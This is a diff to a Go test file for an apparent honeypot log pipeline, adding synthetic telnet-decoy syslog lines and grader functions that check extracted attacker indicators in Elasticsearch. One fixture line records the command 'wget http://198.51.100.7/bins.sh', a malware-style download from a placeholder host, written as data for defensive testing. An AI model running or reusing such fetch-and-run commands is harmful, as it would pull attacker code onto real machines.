@@ -64,13 +64,19 @@ func TestQueries(t *testing.T) {
 				i, j, address, secret, base64.StdEncoding.EncodeToString([]byte(secret)), [...]string{"failure", "success"}[min(i*j, 1)]))
 		}
 	}
+	// And two that fetch the same, with what is no use to others.
+	for i, address := range []string{"93.184.216.34", "151.101.1.69"} {
+		for j, command := range []string{"wget http://198.51.100.7/bins.sh", "curl http://deb.debian.org/x"} {
+			lines = append(lines, fmt.Sprintf(`<134>1 2026-01-01T03:1%d:%02d.000000+00:00 decky-03 telnet - command [relay@55555 src_ip="%s" command="%s"]`, i, j, address, command))
+		}
+	}
 	h := StartHost(t, host.Options{Properties: Properties(t, node.URL, prefix, map[string]string{"geoip_db": halves(t)})})
 	Deliver(t, h, Cut(lines, 3), 1)
 	if err := h.Exit(t.Context()); err != nil {
 		t.Fatal(err)
 	}
 	w := world{
-		attackers: Documents(t, node, prefix+"-attackers"), targets: Documents(t, node, prefix+"-smtp-targets"),
+		attackers: Documents(t, node, prefix+"-attackers"), targets: Documents(t, node, prefix+"-smtp-targets"), indicators: Documents(t, node, prefix+"-indicators"),
 		hours: Documents(t, node, prefix+"-activity-2026.01"), transitions: Documents(t, node, prefix+"-transitions-2026.01"),
 	}
 	w.checkTried(t, lines)
@@ -131,7 +137,7 @@ func halves(t *testing.T) string {
 
 // world is what the log left in Elasticsearch, by id.
 type world struct {
-	attackers, targets, hours, transitions map[string]map[string]any
+	attackers, targets, indicators, hours, transitions map[string]map[string]any
 }
 
 func list(doc map[string]any, name string) []any {
@@ -377,6 +383,41 @@ var judges = map[string]func(w *world, answer map[string]any) (want, got []strin
 			if b["key"] != "" {
 				got = append(got, fmt.Sprint(b["key"], " ", b["doc_count"]))
 			}
+		}
+		return distinct(want), distinct(got)
+	},
+	"What do attackers fetch, and from where?": func(w *world, answer map[string]any) (want, got []string) {
+		for _, doc := range w.indicators {
+			if doc["published"] == true {
+				want = append(want, fmt.Sprint(field(doc, "indicator.value"), " ", number(doc, "attacker_count")))
+			}
+		}
+		values := hitValues(answer, "indicator.value")
+		for i, n := range hitValues(answer, "attacker_count") {
+			got = append(got, values[i]+" "+n)
+		}
+		return distinct(want), distinct(got)
+	},
+	"Who else used this URL?": func(w *world, answer map[string]any) (want, got []string) {
+		for _, doc := range w.attackers {
+			if slices.Contains(list(doc, "indicator.url"), any("http://198.51.100.7/bins.sh")) {
+				want = append(want, fmt.Sprint(doc["ip"]))
+			}
+		}
+		return distinct(want), distinct(hitValues(answer, "ip"))
+	},
+	"Who wants to be a proxy's client?": func(w *world, answer map[string]any) (want, got []string) {
+		of := map[string]int{}
+		for _, doc := range w.attackers {
+			for _, target := range list(doc, "forward.target") {
+				of[target.(string)]++
+			}
+		}
+		for target, n := range of {
+			want = append(want, fmt.Sprint(target, " ", n))
+		}
+		for _, b := range buckets(answer, "target") {
+			got = append(got, fmt.Sprint(b["key"], " ", number(b, "doc_count")))
 		}
 		return distinct(want), distinct(got)
 	},
